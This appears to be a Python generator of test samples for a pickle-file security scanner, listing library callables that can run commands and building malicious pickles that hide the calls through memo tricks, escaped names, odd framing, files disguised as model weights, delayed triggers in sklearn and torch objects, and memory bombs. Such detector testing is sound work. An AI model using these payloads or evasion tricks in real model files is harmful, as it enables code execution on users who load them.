    ("mako.template", "Template", (f"<% {CODE} %>",)),
    ("sympy", "sympify", (CODE,)),
    ("sympy.parsing.sympy_parser", "eval_expr", (CODE, {}, {})),
    ("sympy.utilities.lambdify", "lambdify", ("x", CODE)),
    ("numexpr", "evaluate", (CODE,)),
    ("numba", "jit", (SYSTEM,)),
    ("numba.core.serialize", "_unpickle__CustomPickled", (b"x",)),
    ("llvmlite.binding", "load_library_permanently", ("/tmp/x.so",)),
    ("cffi", "FFI", ()),
    ("Cython.Build.Inline", "cython_inline", (CODE,)),
    ("IPython", "embed", ()),
    ("IPython.utils.process", "system", (COMMAND,)),
    ("IPython.core.interactiveshell", "InteractiveShell.instance", ()),
    ("nltk.data", "load", ("x",)),
    ("nltk.internals", "java", (["x"],)),
    ("spacy", "load", ("/tmp",)),
    ("spacy.cli", "download", ("x",)),
    ("spacy.util", "import_file", ("x", "/tmp/x.py")),
    ("gensim.utils", "unpickle", ("/tmp/x",)),
    ("gensim.utils", "check_output", (COMMAND,)),
    ("gensim.models", "KeyedVectors.load", ("/tmp/x",)),
    ("fasttext", "load_model", ("/etc/passwd",)),
    ("mlflow.pyfunc", "load_model", ("/tmp",)),
    ("mlflow.projects.utils", "_run", ()),
    ("dask.utils", "import_required", ("os", "x")),
    ("distributed.protocol.pickle", "loads", (b"x",)),
    ("ray", "init", ()),
    ("ray.cloudpickle", "loads", (b"x",)),
    ("polars", "read_csv", ("/etc/passwd",)),
    ("polars.io.plugins", "register_io_source", (SYSTEM,)),
    ("pyarrow", "memory_map", ("/etc/passwd",)),
    ("pyarrow.parquet", "read_table", ("/etc/passwd",)),
    ("fsspec", "open", ("/etc/passwd",)),
    ("fsspec.core", "url_to_fs", ("http://127.0.0.1/",)),
    ("smart_open", "open", (CANARY, "w")),
    ("h5py", "File", (CANARY, "w")),
    ("zarr", "open", (CANARY, "w")),
    ("requests", "Session", ()),
    ("requests.sessions", "Session.get", (None, "http://127.0.0.1/")),
    ("urllib3", "PoolManager", ()),
    ("httpx", "get", ("http://127.0.0.1/",)),
    ("aiohttp", "request", ("GET", "http://127.0.0.1/")),
    ("boto3", "client", ("s3",)),
    ("paramiko", "SSHClient", ()),
    ("paramiko.proxy", "ProxyCommand", (COMMAND,)),
    ("invoke", "run", (COMMAND,)),
    ("fabric", "Connection", ("x",)),
    ("plumbum.cmd", "touch", (CANARY,)),
    ("sh", "touch", (CANARY,)),
    ("pexpect", "run", (COMMAND,)),
    ("pexpect", "spawn", (COMMAND,)),
    ("ptyprocess", "PtyProcess.spawn", (["touch", CANARY],)),
    ("psutil", "Popen", (["touch", CANARY],)),
    ("click", "edit", ("x",)),
    ("click", "launch", (CANARY,)),
    ("click.termui", "prompt", ("x",)),
    ("typer", "launch", (CANARY,)),
    ("pip._internal", "main", (["install", "x"],)),
    ("pip._internal.utils.subprocess", "call_subprocess", (["touch", CANARY],)),
    ("pip._vendor.distlib.scripts", "ScriptMaker", ("/tmp", "/tmp")),
    ("setuptools", "setup", ()),
    ("setuptools.sandbox", "run_setup", ("/tmp/x.py", [])),
    ("setuptools._distutils.spawn", "spawn", (["touch", CANARY],)),
    ("pkg_resources", "load_entry_point", ("x", "y", "z")),
    ("pkg_resources", "run_script", ("x", "y")),
    ("wheel.cli", "main", ()),
    ("six", "exec_", (CODE,)),
    ("six.moves", "getoutput", (COMMAND,)),
    ("past.builtins", "execfile", ("/tmp/x.py",)),
    ("werkzeug.utils", "import_string", ("os.system",)),
    ("flask.config", "Config.from_pyfile", (None, "/tmp/x")),
    ("django.utils.module_loading", "import_string", ("os.system",)),
    ("twisted.internet.utils", "getProcessOutput", ("/bin/touch", [CANARY])),
    ("tornado.util", "exec_in", (CODE, {})),
    ("tornado.template", "Template", ("x",)),
    ("cherrypy.lib.reprconf", "attributes", ("os.system",)),
    ("pydantic.utils", "import_string", ("os.system",)),
    ("hydra.utils", "instantiate", ({"_target_": "os.system"},)),
    ("hydra.utils", "get_method", ("os.system",)),
    ("omegaconf", "OmegaConf.load", ("/etc/passwd",)),
    ("fire", "Fire", (SYSTEM,)),
    ("lightning.pytorch.core.saving", "load_hparams_from_yaml", ("/tmp/x",)),
    ("pytorch_lightning.utilities.cloud_io", "load", ("/tmp/x",)),
    ("lightning_fabric.utilities.cloud_io", "_load", ("/tmp/x",)),
    ("fairseq.checkpoint_utils", "load_checkpoint_to_cpu", ("/tmp/x",)),
    ("timm.models", "create_model", ("x",)),
    ("ultralytics.utils.checks", "check_requirements", ("x",)),
    ("open_clip", "create_model", ("x",)),
    ("sentence_transformers", "SentenceTransformer", ("/tmp",)),
    ("sentence_transformers.util", "import_from_string", ("os.system",)),
    ("optuna.storages", "RDBStorage", ("sqlite:////tmp/x",)),
    ("sqlalchemy", "create_engine", ("sqlite:////tmp/x",)),
    ("peewee", "SqliteDatabase", (CANARY,)),
    ("networkx", "read_gpickle", ("/tmp/x",)),
    ("networkx.utils", "open_file", (CANARY, "w")),
    ("tqdm.contrib.concurrent", "process_map", (SYSTEM, [COMMAND])),
    ("loky", "get_reusable_executor", ()),
    ("cupy", "RawModule", (CODE,)),
    ("triton.runtime.build", "_build", ("x", "y", "/tmp")),
    ("gradio", "Interface.load", ("x",)),
    ("streamlit.web.cli", "main", ()),
    ("wandb", "init", ()),
    ("comet_ml", "Experiment", ()),
    ("google.cloud.storage", "Client", ()),
    ("kubernetes.config", "load_kube_config", ("/tmp/x",)),
    ("docker", "from_env", ()),
    ("ansible.module_utils.basic", "AnsibleModule", ({},)),
    ("salt.client", "Caller", ()),
    ("asteval", "Interpreter", ()),
    ("deap.gp", "compile", (CODE, None)),
    ("quantlib", "x", ()),
    ("onnxruntime", "InferenceSession", ("/tmp/x.onnx",)),
    ("onnx", "load", ("/tmp/x.onnx",)),
    ("onnx.hub", "load", ("x",)),
    ("skops.io", "load", ("/tmp/x",)),
    ("shap", "Explainer.load", (1,)),
    ("hummingbird.ml", "load", ("/tmp/x",)),
    ("autogluon.tabular", "TabularPredictor.load", ("/tmp",)),
    ("h2o", "load_model", ("/tmp",)),
    ("pycaret.classification", "load_model", ("/tmp/x",)),
    ("whisper", "load_model", ("x",)),
    ("vllm", "LLM", ("x",)),
    ("llama_cpp", "Llama", ("/etc/passwd",)),
    ("ctranslate2", "Translator", ("/tmp",)),
    ("sagemaker", "Session", ()),
    ("mymodels.net", "Classifier", ()),
    ("__main__", "Model", ()),
    ("__mp_main__", "main", ()),
    ("evil", "payload", ()),
)  # fmt: skip

# --- ways to hide a call -----------------------------------------------------------------------------------------------------------------


def _hidden() -> Iterator[tuple[str, bytes]]:
    system = name("os", "system")
    yield "dup-then-call", whole(system + b"2" + plain((COMMAND,)) + b"R0.")
    yield "call-then-pop", whole(boom() + b"0" + plain({"weights": [1.0, 2.0]}))
    yield "call-inside-popped-mark", whole(b"(" + boom() + b"1" + plain([1]))
    yield (
        "memo-overwritten",
        whole(plain("math") + b"q\x00" + plain("os") + b"q\x00" + b"0h\x00" + plain("system") + b"\x93" + plain((COMMAND,)) + b"R"),
    )
    yield "names-from-memo", whole(text("os") + b"\x940" + text("system") + b"\x940" + b"h\x00h\x01\x93" + plain((COMMAND,)) + b"R")
    yield (
        "long-memo-index",
        whole(
            text("os")
            + b"r"
            + struct.pack("<I", 70_000)
            + b"0j"
            + struct.pack("<I", 70_000)
            + text("system")
            + b"\x93"
            + plain((COMMAND,))
            + b"R"
        ),
    )
    yield "text-memo-index", whole(b"Vos\np7\n0g7\n" + b"Vsystem\n\x93" + plain((COMMAND,)) + b"R")
    yield "unicode-escape-name", whole(b"V\\u006fs\nVsys\\u0074em\n\x93" + plain((COMMAND,)) + b"R")
    yield "string-hex-escape", whole(b"S'\\x6f\\x73'\nS'system'\n\x93" + plain((COMMAND,)) + b"R")
    yield "binstring-name", whole(b"U\x02osU\x06system\x93" + plain((COMMAND,)) + b"R")
    yield (
        "binunicode8-name",
        whole(b"\x8d" + struct.pack("<Q", 2) + b"os" + b"\x8d" + struct.pack("<Q", 6) + b"system\x93" + plain((COMMAND,)) + b"R"),
    )
    yield "dotted-through-reexport", whole(name("posixpath", "os.system") + plain((COMMAND,)) + b"R")
    yield "dotted-through-numpy", whole(name("numpy.lib._npyio_impl", "os.system") + plain((COMMAND,)) + b"R")
    yield "dotted-through-sklearn", whole(name("sklearn.utils.validation", "warnings.sys.modules") + b".")
    yield "dotted-dunder", whole(name("builtins", "str.__class__.__base__.__subclasses__") + b")R")
    yield "dotted-allowed-class", whole(name("collections", "OrderedDict.__init__.__globals__") + b".")
    yield "dotted-allowed-method", whole(name("numpy", "ndarray.tofile") + plain((1, CANARY)) + b"R")
    yield "dotted-dtype", whole(name("numpy", "dtype.__class__") + plain((1,)) + b"R")
    yield "global-with-spaces", whole(b"cos \nsystem\n" + plain((COMMAND,)) + b"R", 2)
    yield "global-relative", whole(b"c.os\nsystem\n" + plain((COMMAND,)) + b"R", 2)
    yield "global-dotted-old-protocol", whole(b"cposixpath\nos.system\n" + plain((COMMAND,)) + b"R", 2)
    yield "two-to-three-mapping", whole(b"ccommands\ngetoutput\n" + plain((COMMAND,), 2) + b"R", 2)
    yield "two-to-three-builtin", whole(b"c__builtin__\nexecfile\n" + plain((CANARY,), 1) + b"R", 0)
    yield "two-to-three-name", whole(b"citertools\nimap\n(" + b"cos\nsystem\n" + plain([COMMAND], 2) + b"tR", 2)
    yield "protocol-said-twice", whole(b"\x80\x02" + b"\x80\x04" + boom())
    yield "protocol-lowered-inside", whole(b"\x80\x01" + boom())
    yield "protocol-none", boom(0) + b"."
    yield "frame-too-short", b"\x80\x04\x95" + struct.pack("<Q", 4) + boom() + b"."
    yield "frame-too-long", b"\x80\x04\x95" + struct.pack("<Q", 4000) + boom() + b"."
    yield "frame-in-frame", b"\x80\x04\x95" + struct.pack("<Q", 100) + b"\x95" + struct.pack("<Q", 50) + boom() + b"."
    yield (
        "frame-straddled-by-text",
        b"\x80\x04\x95" + struct.pack("<Q", 3) + text("os") + text("system") + b"\x93" + plain((COMMAND,)) + b"R.",
    )
    yield "extension-registry", whole(b"\x82\x01" + plain((COMMAND,)) + b"R")
    yield "extension-registry-4", whole(b"\x84\x01\x00\x00\x00" + plain((COMMAND,)) + b"R")
    yield "persistent-id", whole(b"Pos.system\n" + plain((COMMAND,)) + b"R")
    yield "binary-persistent-id", whole(plain(("storage", SYSTEM, COMMAND)) + b"Q")
    yield "out-of-band-buffer", whole(b"\x97\x98", 5)
    yield "protocol-six", b"\x80\x06" + boom() + b"."
    yield "protocol-255", b"\x80\xff" + boom() + b"."
    yield "newobj-of-acting-class", whole(name("subprocess", "Popen") + plain((["touch", CANARY],)) + b"\x81")
    yield "newobj-ex-of-acting-class", whole(name("tempfile", "TemporaryDirectory") + b")" + plain({"suffix": "x"}) + b"\x92")
    yield "obj", whole(b"(" + name("os", "system") + plain(COMMAND) + b"o")
    yield "obj-in-list", whole(b"]" + b"(" + name("os", "popen") + plain(COMMAND) + b"oa")
    yield "inst", whole(b"(" + plain(COMMAND, 0) + b"ios\nsystem\n", 0)
    yield "inst-in-dict", whole(b"(" + plain("k", 0) + b"(" + plain(COMMAND, 0) + b"iposix\nsystem\nd", 0)
    yield "build-on-a-class", whole(name("collections", "OrderedDict") + plain({"__reduce__": SYSTEM}) + b"b")
    yield "build-on-a-function", whole(name("math", "sqrt") + plain({"x": 1}) + b"b")
    yield "build-slots-on-a-class", whole(name("json", "JSONEncoder") + plain((None, {"default": SYSTEM})) + b"b")
    yield "build-class-attribute", whole(estimator("collections", "UserDict", {"__class__": Raw(name("subprocess", "Popen"))}))
    yield (
        "build-setstate-in-instance",
        whole(estimator("sklearn.preprocessing._data", "StandardScaler", {"__setstate__": SYSTEM}) + plain(COMMAND) + b"b"),
    )
    yield "build-getattr-in-instance", whole(estimator("sklearn.pipeline", "Pipeline", {"__getattr__": SYSTEM}))
    yield (
        "build-two-states",
        whole(estimator("sklearn.preprocessing._data", "StandardScaler", {}) + plain((None, {"__dict__": SYSTEM})) + b"b"),
    )
    yield "setitem-on-made-object", whole(call("os", "environ.__class__") + plain("LD_PRELOAD") + plain("/tmp/x.so") + b"s")
    yield "setitems-on-a-name", whole(name("os", "environ") + b"(" + plain("LD_PRELOAD") + plain("/tmp/x.so") + b"u")
    yield "setitem-into-modules", whole(name("sys", "modules") + plain("json") + SYSTEM.code + b"s")
    yield "append-on-a-name", whole(name("sys", "path") + plain("/tmp") + b"a")
    yield "appends-on-a-name", whole(name("sys", "meta_path") + b"(" + SYSTEM.code + b"e")
    yield "additems-on-a-name", whole(name("sys", "builtin_module_names") + b"(" + plain("x") + b"\x90")
    yield "result-called-again", whole(call("functools", "partial", SYSTEM, COMMAND) + b")R")
    yield "partial-of-partial", whole(call("functools", "partial", Raw(call("functools", "partial", SYSTEM)), COMMAND) + b")R")
    yield (
        "getattr-chain-deep",
        whole(call("builtins", "getattr", Raw(call("builtins", "getattr", Raw(call("builtins", "__import__", "os")), "path")), "os")),
    )
    yield (
        "methodcaller-replace",
        whole(call("operator", "methodcaller", "system", COMMAND) + plain((Raw(call("importlib", "import_module", "os")),)) + b"R"),
    )
    yield "map-into-list", whole(call("builtins", "list", Raw(call("builtins", "map", SYSTEM, [COMMAND]))))
    yield "map-into-deque", whole(call("collections", "deque", Raw(call("builtins", "map", SYSTEM, [COMMAND]))))
    yield "map-into-bytearray", whole(call("builtins", "bytearray", Raw(call("builtins", "map", SYSTEM, [COMMAND]))))
    yield "map-into-ordereddict", whole(call("collections", "OrderedDict", Raw(call("builtins", "map", SYSTEM, [COMMAND]))))
    yield "map-into-counter", whole(call("collections", "Counter", Raw(call("builtins", "map", SYSTEM, [COMMAND]))))
    yield "defaultdict-factory", whole(call("collections", "defaultdict", SYSTEM))
    yield "defaultdict-factory-eval", whole(call("collections", "defaultdict", Raw(call("functools", "partial", EVAL, CODE))))
    yield "counter-of-map", whole(call("collections", "Counter", Raw(call("builtins", "map", SYSTEM, [COMMAND]))))
    yield "reduce-without-tuple", whole(SYSTEM.code + plain([COMMAND]) + b"R")
    yield "import-only", whole(name("antigravity", "webbrowser"))
    yield "import-only-unknown", whole(name("evil_package.startup", "VERSION"))
    yield "import-only-this", whole(name("this", "s"))
    yield "import-submodule-with-effects", whole(name("idlelib.idle", "x"))
    yield "name-non-ascii", whole(name("ос", "system") + plain((COMMAND,)) + b"R")
    yield "name-with-null", whole(name("os\0", "system") + plain((COMMAND,)) + b"R")
    yield "name-empty-module", whole(name("", "system") + plain((COMMAND,)) + b"R")
    yield "name-not-text", whole(plain(1) + plain(2) + b"\x93" + plain((COMMAND,)) + b"R")
    yield "name-from-call", whole(call("builtins", "str", "os") + text("system") + b"\x93" + plain((COMMAND,)) + b"R")
    yield "exception-with-cause", whole(call("builtins", "Exception", Raw(boom())))
    yield "in-set", whole(b"\x8f(" + boom() + b"\x90")
    yield "in-frozenset", whole(b"(" + boom() + b"\x91")
    yield "as-key", whole(b"}" + boom() + b"Ks".replace(b"K", b"K\x01"))
    yield "in-tuple3", whole(b"NN" + boom() + b"\x87")
    yield "in-persistent-id", whole(plain(("storage", Raw(boom()))) + b"Q")
    yield "after-many-floats", whole(b"]" + b"(" + (b"G" + bytes(8)) * 50_000 + b"e" + boom() + b"a")
    yield "after-many-memos", whole(b"".join(text("x") + b"\x940" for _ in range(5_000)) + boom())
    yield "after-long-bytes", whole(b"\x8e" + struct.pack("<Q", 1 << 20) + bytes(1 << 20) + b"0" + boom())
    yield "after-deep-lists", whole(b"]" * 5_000 + b"0" * 4_999 + b"0" + boom())
    yield "in-global-class-argument", whole(call("collections", "OrderedDict", [(1, Raw(boom()))]))
    yield (
        "numpy-reconstruct-other-class",
        whole(call("numpy.core.multiarray", "_reconstruct", Raw(name("subprocess", "Popen")), (0,), b"b")),
    )
    yield "numpy-dtype-eval", whole(call("numpy", "dtype", f"__import__('os').system('{COMMAND}')"))
    yield "numpy-scalar-object", whole(call("numpy.core.multiarray", "scalar", Raw(call("numpy", "dtype", "O8", False, True)), Raw(boom())))
    yield "torch-rebuild-with-call", whole(call("torch._utils", "_rebuild_tensor_v2", Raw(boom()), 0, (1,), (1,), False, {}))
    yield (
        "torch-parameter-hook",
        whole(call("torch._utils", "_rebuild_parameter", 1, True, Raw(call("collections", "OrderedDict", [(0, SYSTEM)])))),
    )
    yield (
        "reconstructor-acting-base",
        whole(call("copyreg", "_reconstructor", Raw(name("collections", "OrderedDict")), Raw(name("subprocess", "Popen")), Raw(boom()))),
    )
    yield "datetime-of-a-call", whole(call("datetime", "datetime", Raw(boom())))
    yield "uuid-with-state", whole(estimator("uuid", "UUID", {"int": SYSTEM}))
    yield "str-repeat", whole(call("operator", "mul", "A", 10**9))
    yield "range-into-list", whole(call("builtins", "list", Raw(call("builtins", "range", 10**12))))
    yield "bytearray-of-size", whole(call("builtins", "bytearray", 10**12))
    yield "set-of-nested-tuples", whole(_laughs(60) + b"\x8f(" + b"h\x3b" + b"\x90")
    yield "numpy-of-size", whole(call("numpy", "zeros", 10**12))
    yield "base64-then-loads", whole(call("pickle", "loads", Raw(call("base64", "b64decode", "gASVAA=="))))


def _laughs(depth: int) -> bytes:
    """Each tuple holds the one before twice."""
    return plain("x") + b"\x94" + b"".join(b"h" + bytes([step]) + b"h" + bytes([step]) + b"\x86\x94" for step in range(depth - 1))


# --- things that go off later ------------------------------------------------------------------------------------------------------------


def _delayed() -> Iterator[tuple[str, bytes]]:
    acting = {
        "system": SYSTEM, "eval": EVAL, "partial": Raw(call("functools", "partial", SYSTEM, COMMAND)), "popen": Raw(name("os", "popen")),
        "attrgetter": Raw(call("operator", "attrgetter", "__class__")), "exec": Raw(name("builtins", "exec")),
        "import": Raw(name("builtins", "__import__")), "loads": Raw(name("pickle", "loads")), "popen-class": Raw(name("subprocess", "Popen")),
        "lambda": Raw(call("cloudpickle.cloudpickle", "_make_function", 1, {}, None, None, None)),
    }  # fmt: skip
    places = (
        ("sklearn.preprocessing._function_transformer", "FunctionTransformer", "func"),
        ("sklearn.preprocessing._function_transformer", "FunctionTransformer", "inverse_func"),
        ("sklearn.feature_extraction.text", "CountVectorizer", "tokenizer"),
        ("sklearn.feature_extraction.text", "TfidfVectorizer", "preprocessor"),
        ("sklearn.neighbors._classification", "KNeighborsClassifier", "metric"),
        ("sklearn.decomposition._kernel_pca", "KernelPCA", "kernel"),
        ("sklearn.svm._classes", "SVC", "kernel"),
        ("sklearn.compose._target", "TransformedTargetRegressor", "func"),
        ("sklearn.model_selection._search", "GridSearchCV", "scoring"),
        ("sklearn.ensemble._forest", "RandomForestClassifier", "estimator_params"),
        ("sklearn.cluster._agglomerative", "FeatureAgglomeration", "pooling_func"),
        ("sklearn.feature_selection._univariate_selection", "SelectKBest", "score_func"),
        ("sklearn.linear_model._ransac", "RANSACRegressor", "loss"),
        ("sklearn.pipeline", "Pipeline", "steps"),
        ("sklearn.calibration", "CalibratedClassifierCV", "estimator"),
        ("torch.nn.modules.linear", "Linear", "_forward_hooks"),
        ("torch.nn.modules.container", "Sequential", "forward"),
        ("torch.utils.data.dataset", "TensorDataset", "transform"),
        ("xgboost.sklearn", "XGBClassifier", "objective"),
        ("lightgbm.sklearn", "LGBMRegressor", "_objective"),
        ("numpy", "vectorize", "pyfunc"),
        ("collections", "UserDict", "data"),
    )
    for module, qualified, attribute in places:
        for label, value in acting.items():
            yield f"{qualified}.{attribute}={label}", whole(estimator(module, qualified, {attribute: value}))


def _streams() -> Iterator[tuple[str, bytes]]:
    good = whole(plain({"weights": [1.0, 2.0]}))
    yield "second-pickle-after-many", good * 20 + whole(boom())
    yield "payload-behind-zeros", good + bytes(4096) + whole(boom())
    yield "payload-behind-text", b"# a model\n" + whole(boom())
    yield "payload-behind-png", b"\x89PNG\r\n\x1a\n" + whole(boom())
    yield "payload-behind-newlines", b"\n" * 50 + whole(boom())
    yield "stopped-in-the-middle-of-an-opcode", whole(boom())[:-1] + b"\x8c\xff"
    yield "unknown-opcode-after-call", whole(boom() + b"\xff")
    yield "no-value-at-stop", b"\x80\x04" + boom() + b"0."
    yield "huge-length-after-call", b"\x80\x04" + boom() + b"\x8e" + struct.pack("<Q", 1 << 62)
    yield "huge-bytearray", whole(b"\x96" + struct.pack("<Q", 1 << 62))
    yield "huge-long4", whole(b"\x8b" + struct.pack("<I", 1 << 31 - 1))
    yield "huge-memo-index", whole(plain(1) + b"r" + struct.pack("<I", 0xFFFFFFFF))
    yield "million-marks", whole(b"(" * 1_000_000)
    yield "persid-at-the-end", good[:-1] + b"Px\n."


def gadgets() -> Iterator[Item]:
    """Every gadget in a protocol of its own choosing, and a second time in another container of names."""
    for index, (module, qualified, arguments) in enumerate((*STANDARD, *LIBRARIES)):
        dotted = "." in qualified
        protocol = 4 if dotted else (0, 2, 4, 5)[index % 4]
        label = f"{module}.{qualified}"
        yield Item(
            f"g{index:04d}.pkl",
            "pickle",
            f"gadget:{label}",
            whole(
                call(module, qualified, *arguments, protocol=4) if dotted else _call_in(protocol, module, qualified, arguments), protocol
            ),
        )


def _call_in(protocol: int, module: str, qualified: str, arguments: tuple[object, ...]) -> bytes:
    return name(module, qualified, protocol) + plain(arguments, max(protocol, 2)) + b"R"


def items() -> Iterator[Item]:
    """All of it."""
    yield from gadgets()
    for index, (technique, content) in enumerate(_hidden()):
        yield Item(f"h{index:04d}.pkl", "pickle", f"hidden:{technique}", content)
    for index, (technique, content) in enumerate(_delayed()):
        yield Item(f"d{index:04d}.joblib", "pickle", f"later:{technique}", content)
    for index, (technique, content) in enumerate(_streams()):
        yield Item(f"s{index:04d}.pkl", "pickle", f"stream:{technique}", content)


def rewritten(item: Item, seed: int) -> Iterator[Item]:
    """The same program with other names, other opcodes, another memo, inside other wrappings; for pickles of protocol 4 and later."""
    assert isinstance(item.content, bytes)
    draw = random.Random(seed)
    body = item.content
    yield Item(
        draw.choice(("model.bin", "weights.txt", "data.json", "tok.safetensors", "x")), item.family, f"renamed:{item.technique}", body
    )
    if body[:2] == b"\x80\x04":
        padded = b"".join(
            draw.choice((b"N0", b"K\x070", b")0", b"]0", text("pad") + b"0", b"}\x940")) for _ in range(draw.randrange(1, 60))
        )
        yield Item(item.name, item.family, f"padded:{item.technique}", b"\x80\x05" + padded + body[2:])
        inside = body[2:-1]
        yield Item(
            item.name, item.family, f"wrapped:{item.technique}", whole(b"}" + text("state_dict") + b"(" + plain(1.5) + inside + b"l" + b"s")
        )
